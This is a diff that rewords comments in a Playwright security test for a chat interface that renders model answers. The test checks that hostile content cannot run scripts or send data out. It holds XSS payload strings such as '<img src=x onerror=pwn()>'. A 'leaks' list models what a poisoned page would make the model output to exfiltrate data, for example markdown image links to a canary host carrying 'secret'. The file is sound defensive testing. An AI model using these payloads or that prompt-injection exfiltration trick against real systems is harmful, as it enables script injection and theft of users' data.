@@ -1,4 +1,7 @@
-/** Hostile texts in every field that the page shows, with the real program: no script runs, nothing leaves for elsewhere. */
+/**
+ * Hostile texts in every field that the page shows, with the real program: no script runs, and no request leaves for
+ * other hosts.
+ */
 import assert from "node:assert/strict";
 import { createServer } from "node:http";
 import { test } from "@playwright/test";
@@ -10,7 +13,7 @@ import { calls, startGlasshouse, startModel, text, turn } from "./programs.mjs";
 
 test.describe.configure({ mode: "serial" });
 
-/** Short ones, for fields that take a line. */
+/** Short ones, for single-line fields. */
 const LINES = [
   "<img src=x onerror=pwn()>",
   "<svg onload=pwn()>",
@@ -24,7 +27,7 @@ const LINE = LINES.join(" ").slice(0, 190);
 let browser, glasshouse, model, page, canary, diagrams;
 const seen = { canary: [], elsewhere: [] };
 
-/** What a poisoned page would have the model say, so that what it knows gets out. */
+/** What a poisoned page would make the model say in order to leak data. */
 const leaks = (at) =>
   [
     `![a](${at}/image?q=secret)`,
@@ -45,7 +48,7 @@ test.beforeAll(async () => {
     seen.canary.push(`${request.url} ${request.headers.referer ?? ""}`.trim());
     response.end();
   });
-  // A request for https ends before it says what it wants.
+  // An HTTPS connection fails before the request is known.
   canary.on("connection", () => seen.canary.push("connection"));
   await new Promise((resolve) => canary.listen(0, "127.0.0.1", resolve));
   const at = `http://127.0.0.1:${canary.address().port}`;
@@ -93,7 +96,7 @@ test.beforeAll(async () => {
     void dialog.dismiss();
   });
   const isElsewhere = (url) => url.origin !== glasshouse.url && !["data:", "blob:"].includes(url.protocol);
-  // Of the render frame it is known that it tries; what counts is that its policy lets nothing out.
+  // The render frame is known to try; what matters is that its CSP lets nothing out.
   const isOfFrame = (request) => request.frame().url() === `${glasshouse.url}/render-frame.html`;
   const watch = (kind, hasLeft) =>
     page.on(kind, (request) => {
@@ -109,9 +112,9 @@ test.afterAll(async () => {
   canary?.close();
 });
 
-/** Nothing has run, and nobody else has heard of it. */
+/** Checks that no script has run, and no other host was contacted. */
 async function unharmed() {
-  // What loads or runs late does so in these frames.
+  // Late scripts and loads happen within these frames.
   await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 300))));
   assert.equal(await page.evaluate(() => document.documentElement.dataset.pwned ?? "no"), "no", page.url());
   assert.deepEqual(seen, { canary: [], elsewhere: [] }, page.url());
@@ -134,7 +137,7 @@ const say = async (words) => {
   await page.keyboard.press("Enter");
 };
 
-/** Opens the folds of the answers, those inside of others too, and tells how many. */
+/** Expands the folds of the answers, including nested ones, and returns how many. */
 async function unfoldAll() {
   const folds = page.locator("article.assistant button:not([aria-haspopup])");
   const closed = folds.and(page.locator("[aria-expanded=false]"));
@@ -233,7 +236,7 @@ test("diagrams, each of which was drawn or refused", async () => {
     if ((await block.locator(".md-note").count()) === 0) drawn.push(diagrams[at]);
   }
   await unharmed();
-  // A frame that refused everything would be as quiet.
+  // Otherwise a frame that rejected everything would pass this test.
   for (const source of requestRoutes(`127.0.0.1:${canary.address().port}`))
     assert.ok(drawn.includes(source), source);
   assert.ok(drawn.length > 25, `only ${drawn.length} were drawn`);
@@ -270,7 +273,7 @@ test("the document in which they are drawn has no origin, no network and no way 
       window: () => open("about:blank") ?? Promise.reject(new Error("refused")),
       code: () => new Function("return 1")(),
     };
-    // It is refused later than it answers.
+    // sendBeacon returns before it is blocked.
     navigator.sendBeacon(at, "secret");
     const worked = [];
     for (const [name, way] of Object.entries(ways)) {
@@ -278,7 +281,7 @@ test("the document in which they are drawn has no origin, no network and no way 
         await way();
         worked.push(name);
       } catch {
-        // As it should be.
+        // As expected.
       }
     }
     return { origin: globalThis.origin, worked };
